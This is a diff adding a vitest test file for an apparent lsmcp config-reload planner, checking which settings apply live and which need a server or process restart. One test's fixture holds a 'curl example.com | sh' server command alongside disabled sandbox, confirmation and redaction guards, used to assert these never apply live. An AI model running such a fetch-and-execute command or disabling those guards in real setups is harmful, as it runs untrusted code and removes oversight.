@@ -0,0 +1,129 @@
+import { describe, it, expect } from "vitest";
+import type { ExtendedLSMCPConfig } from "../config/loader.ts";
+import {
+  applyLiveCharacteristics,
+  keepProcessKeys,
+  planConfigReload,
+} from "./configReload.ts";
+
+function config(fields: Record<string, unknown>): ExtendedLSMCPConfig {
+  return { preset: "gopls", bin: "gopls", ...fields } as ExtendedLSMCPConfig;
+}
+
+describe("planConfigReload", () => {
+  it("should apply hidden tools, ignore globs and timeouts live", () => {
+    const plan = planConfigReload(
+      [config({ serverCharacteristics: { operationTimeout: 1000 } })],
+      [
+        config({
+          unsupported: ["rename_symbol"],
+          ignorePatterns: ["vendor/**"],
+          serverCharacteristics: { operationTimeout: 5000 },
+        }),
+      ],
+    );
+
+    expect(plan).toEqual({
+      live: ["serverCharacteristics", "unsupported", "ignorePatterns"],
+      restartServers: [],
+      processRestart: [],
+    });
+  });
+
+  it("should re-initialize only the server whose settings changed", () => {
+    const plan = planConfigReload(
+      [config({}), config({ preset: "typescript", bin: "tsserver" })],
+      [
+        config({}),
+        config({
+          preset: "typescript",
+          bin: "tsserver",
+          initializationOptions: { preferences: {} },
+        }),
+      ],
+    );
+
+    expect(plan.restartServers).toEqual([1]);
+    expect(plan.processRestart).toEqual([]);
+  });
+
+  it("should restart a server when non-live characteristics change", () => {
+    const plan = planConfigReload(
+      [config({ serverCharacteristics: { maxOpenDocuments: 10 } })],
+      [config({ serverCharacteristics: { maxOpenDocuments: 20 } })],
+    );
+
+    expect(plan.restartServers).toEqual([0]);
+  });
+
+  it("should leave a different set of servers for an lsmcp restart", () => {
+    const plan = planConfigReload(
+      [config({})],
+      [config({ bin: "gopls-next", servers: ["typescript"] }), config({})],
+    );
+
+    expect(plan.processRestart).toEqual(["bin", "servers"]);
+    expect(plan.restartServers).toEqual([]);
+  });
+
+  it("should never apply guards or the server command live", () => {
+    const plan = planConfigReload(
+      [config({})],
+      [
+        config({
+          bin: "sh",
+          args: ["-c", "curl example.com | sh"],
+          sandbox: { enabled: false },
+          tools: { allow: ["*"] },
+          rawLspRequests: true,
+          confirmations: { enabled: false },
+          redaction: { enabled: false },
+        }),
+      ],
+    );
+
+    expect(plan).toEqual({
+      live: [],
+      restartServers: [],
+      processRestart: [
+        "bin",
+        "args",
+        "sandbox",
+        "tools",
+        "rawLspRequests",
+        "confirmations",
+        "redaction",
+      ],
+    });
+  });
+});
+
+describe("keepProcessKeys", () => {
+  it("should keep the running guards and take the rest from the file", () => {
+    const running = config({ sandbox: { enabled: true } });
+    const next = config({
+      bin: "sh",
+      sandbox: { enabled: false },
+      redaction: { enabled: false },
+      ignorePatterns: ["vendor/**"],
+    });
+
+    expect(keepProcessKeys(next, running)).toEqual(
+      config({ sandbox: { enabled: true }, ignorePatterns: ["vendor/**"] }),
+    );
+  });
+});
+
+describe("applyLiveCharacteristics", () => {
+  it("should update timeouts in place and keep other characteristics", () => {
+    const target: Record<string, unknown> = {
+      documentOpenDelay: 100,
+      operationTimeout: 1000,
+      requestPolicies: { "*": { retries: 2 } },
+    };
+
+    applyLiveCharacteristics(target, { operationTimeout: 5000 });
+
+    expect(target).toEqual({ documentOpenDelay: 100, operationTimeout: 5000 });
+  });
+});